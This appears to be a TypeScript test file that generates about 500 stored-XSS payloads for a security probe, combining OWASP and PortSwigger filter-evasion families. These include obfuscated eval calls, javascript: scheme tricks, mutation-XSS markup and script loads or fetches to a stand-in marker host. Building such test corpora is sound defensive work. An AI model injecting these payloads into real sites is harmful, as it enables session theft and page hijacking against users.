/**
 * The stored-XSS corpus of the outside probe (docs/decisions.md, "The outside probe's findings"): the
 * families of the OWASP XSS filter evasion cheat sheet and PortSwigger's XSS cheat sheet, generated as
 * combinations rather than written out one by one. Every payload, when it runs, reports its own id in one of
 * three ways the probe watches: a call of the page-wide binding `__xss(id)`, a dialog whose message is the
 * id, or a request to the marker host. A payload that only loads markup (an image, a style sheet) from the
 * marker host reports through the request too: the markup was rendered as HTML, which a stored field must
 * never be.
 */

export const XSS_MARKER_HOST = 'xss-marker.invalid';

/** What a payload runs: each takes the payload's id. */
type Call = (id: string) => string;

const calls: Record<string, Call> = {
  binding: (id) => `__xss('${id}')`,
  alert: (id) => `alert('${id}')`,
  fetch: (id) => `fetch('//${XSS_MARKER_HOST}/${id}')`,
  // Obfuscations of the same call: the cheat sheets' ways past filters that look for `__xss(`.
  bracket: (id) => `top['__x'+'ss']('${id}')`,
  fromCharCode: (id) =>
    `eval(String.fromCharCode(${[...`__xss('${id}')`].map((c) => c.charCodeAt(0)).join(',')}))`,
  atob: (id) => `eval(atob('${Buffer.from(`__xss('${id}')`).toString('base64')}'))`,
  timer: (id) => `setTimeout('__xss(\\'${id}\\')')`,
};
const callNames = Object.keys(calls);

/** Entity-encodes every character, as filters that decode once then check are fooled by. */
const decimalEntities = (text: string) => [...text].map((c) => `&#${c.charCodeAt(0)};`).join('');
const hexEntities = (text: string) => [...text].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('');

/** Context breakers put before a payload: out of an attribute, a textarea, a title, a comment. */
const breakers = ['', '">', "'>", '</textarea>', '</title>', '--!>', '</noscript>', '</style>'];

const scriptTags: ((code: string, id: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<ScRiPt>${code}</sCrIpT>`,
  (code) => `<script/x>${code}</script>`,
  (code) => `<script type="module">${code}</script>`,
  (code) => `<script src="data:text/javascript,${encodeURIComponent(code)}"></script>`,
  (_code, id) => `<script src="//${XSS_MARKER_HOST}/${id}"></script>`,
  (code) => `<<script>${code}//<</script>`,
];

/** Elements with the event that fires on them by itself (no user action), as the cheat sheets list. */
const eventElements: ((code: string) => string)[] = [
  (c) => `<img src=x onerror="${c}">`,
  (c) => `<IMG SRC=x OnErRoR=${c}>`,
  (c) => `<img/src="x"/onerror="${c}">`,
  (c) => `<image src=x onerror="${c}">`,
  (c) => `<svg onload="${c}">`,
  (c) => `<svg/onload=${c}>`,
  (c) => `<body onload="${c}">`,
  (c) => `<body onpageshow="${c}">`,
  (c) => `<iframe onload="${c}"></iframe>`,
  (c) => `<video><source onerror="${c}"></video>`,
  (c) => `<video src=x onerror="${c}"></video>`,
  (c) => `<audio src=x onerror="${c}"></audio>`,
  (c) => `<input autofocus onfocus="${c}">`,
  (c) => `<input type=image src=x onerror="${c}">`,
  (c) => `<textarea autofocus onfocus="${c}"></textarea>`,
  (c) => `<select autofocus onfocus="${c}"></select>`,
  (c) => `<button autofocus onfocus="${c}">x</button>`,
  (c) => `<a id=x tabindex=1 onfocus="${c}" autofocus>x</a>`,
  (c) => `<div tabindex=1 onfocusin="${c}" autofocus>x</div>`,
  (c) => `<details open ontoggle="${c}">`,
  (c) => `<marquee onstart="${c}">x</marquee>`,
  (c) => `<object data=x onerror="${c}"></object>`,
  (c) => `<embed src=x onerror="${c}">`,
  (c) => `<link rel=stylesheet href=x onerror="${c}">`,
  (c) => `<style onload="${c}"></style>`,
  (c) => `<style>@keyframes k{}</style><div style="animation-name:k" onanimationstart="${c}"></div>`,
  (c) => `<div style="transition:color 1s" ontransitionend="${c}">x</div>`,
  (c) => `<track src=x onerror="${c}">`,
  (c) => `<picture><img src=x onerror="${c}"></picture>`,
  (c) => `<form><button formaction=x onfocus="${c}" autofocus>x</button></form>`,
  (c) => `<table background=x onerror="${c}"></table>`,
  (c) => `<x onclick="${c}" style="display:block;position:fixed;inset:0">x</x>`,
  (c) => `<p onmouseover="${c}" style="position:fixed;inset:0;margin:0">x</p>`,
];

/** Ways of writing `javascript:` that filters miss. */
const scriptSchemes: ((code: string) => string)[] = [
  (c) => `javascript:${c}`,
  (c) => `JaVaScRiPt:${c}`,
  (c) => `java&#x09;script:${c}`,
  (c) => `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:${c}`,
  (c) => ` \u0001javascript:${c}`,
  (c) => `javascript&colon;${c}`,
  (c) => `data:text/html;base64,${Buffer.from(`<script>${c}</script>`).toString('base64')}`,
  (c) => `data:text/html,<script>${c}</script>`,
  (c) => `vbscript:msgbox(${c})`,
];

/** Where a URL runs script: links, frames, forms, objects. Those needing a click are clicked by nobody. */
const urlSinks: ((url: string) => string)[] = [
  (u) => `<a href="${u}">link</a>`,
  (u) => `<iframe src="${u}"></iframe>`,
  (u) => `<form action="${u}"><input type=submit></form>`,
  (u) => `<form><button formaction="${u}">x</button></form>`,
  (u) => `<object data="${u}"></object>`,
  (u) => `<embed src="${u}">`,
  (u) => `<svg><a xlink:href="${u}"><text y=20>x</text></a></svg>`,
  (u) => `<math href="${u}">x</math>`,
  (u) => `<meta http-equiv="refresh" content="0;url=${u}">`,
];

const svgAndMath: ((c: string, id: string) => string)[] = [
  (c) => `<svg><script>${c}</script></svg>`,
  (c) => `<svg><script href="data:,${encodeURIComponent(c)}"/></svg>`,
  (c) => `<svg><animate onbegin="${c}" attributeName=x dur=1s>`,
  (c) => `<svg><set attributeName=onload to="${c}"/></svg>`,
  (c) => `<svg><animate attributeName=href values="javascript:${c}"/><a id=x><text>x</text></a></svg>`,
  (c) => `<svg><foreignObject><img src=x onerror="${c}"></foreignObject></svg>`,
  (c) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${c}'/></svg>#x"/></svg>`,
  (c) => `<svg><style><img src=x onerror="${c}"></style></svg>`,
  (c) => `<math><mtext><table><mglyph><style><img src=x onerror="${c}">`,
  (c) => `<math><maction actiontype=statusline xlink:href="javascript:${c}">x</maction></math>`,
  (c) => `<math><mi xlink:href="javascript:${c}">x</mi></math>`,
  (_c, id) => `<svg><image href="//${XSS_MARKER_HOST}/${id}"/></svg>`,
];

const framesAndStyles: ((c: string, id: string) => string)[] = [
  (c) => `<iframe srcdoc="<script>${c.replaceAll('"', '&quot;')}</script>"></iframe>`,
  (c) => `<iframe srcdoc="${decimalEntities(`<img src=x onerror="${c}">`)}"></iframe>`,
  (c) => `<iframe srcdoc="${hexEntities(`<script>${c}</script>`)}"></iframe>`,
  (c) => `<div style="background:url(javascript:${c})">x</div>`,
  (c) => `<div style="width:expression(${c})">x</div>`,
  (_c, id) => `<style>@import '//${XSS_MARKER_HOST}/${id}';</style>`,
  (_c, id) => `<link rel=stylesheet href="//${XSS_MARKER_HOST}/${id}">`,
  (_c, id) => `<div style="background-image:url(//${XSS_MARKER_HOST}/${id})">x</div>`,
  (_c, id) => `<img src="//${XSS_MARKER_HOST}/${id}">`,
  (_c, id) => `<base href="//${XSS_MARKER_HOST}/${id}/"><a href=x>x</a>`,
];

/** Mutation XSS: markup that is harmless as parsed once and harmful once serialised and parsed again. */
const mutations: ((c: string) => string)[] = [
  (c) => `<noscript><p title="</noscript><img src=x onerror=${c}>"></noscript>`,
  (c) => `<template><img src=x onerror="${c}"></template>`,
  (c) => `<svg></p><style><a id="</style><img src=1 onerror=${c}>">`,
  (c) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=${c}&gt;">`,
  (c) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${c}>`,
  (c) => `<svg><p><style><img src=x onerror="${c}"></style></p></svg>`,
  (c) => `<math><mi><a><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=${c}>">`,
  (c) => `<xmp><p title="</xmp><img src=x onerror=${c}>">`,
  (c) => `<title><img title="</title><img src=x onerror=${c}>">`,
  (c) => `<textarea><img title="</textarea><img src=x onerror=${c}>">`,
  (c) => `<!--><img src=x onerror=${c}>-->`,
  (c) => `<![CDATA[><img src=x onerror=${c}>]]>`,
  (c) => `<a href="&#x6a;avascript:${c}">x</a><noembed><img title="</noembed><img src=x onerror=${c}>">`,
];

/**
 * About 500 payloads, each a function of its id. Families are crossed with the calls and the context
 * breakers in turn, so every call style and breaker meets every family.
 */
export function xssCorpus(): ((id: string) => string)[] {
  const corpus: ((id: string) => string)[] = [];
  let turn = 0;
  const add = (make: (code: string, id: string) => string, times: number) => {
    for (let n = 0; n < times; n += 1) {
      const call = calls[callNames[turn % callNames.length] ?? 'binding'] ?? calls.binding;
      const breaker = breakers[Math.floor(turn / callNames.length) % breakers.length] ?? '';
      turn += 1;
      corpus.push((id) => `${breaker}${make(call?.(id) ?? '', id)}`);
    }
  };
  for (const tag of scriptTags) add(tag, 8);
  for (const element of eventElements) add((code) => element(code), 5);
  for (const element of eventElements) add((code) => element(decimalEntities(code)), 1);
  for (const scheme of scriptSchemes) for (const sink of urlSinks) add((code) => sink(scheme(code)), 1);
  for (const make of svgAndMath) add(make, 6);
  for (const make of framesAndStyles) add(make, 5);
  for (const make of mutations) add((code) => make(code), 5);
  return corpus;
}
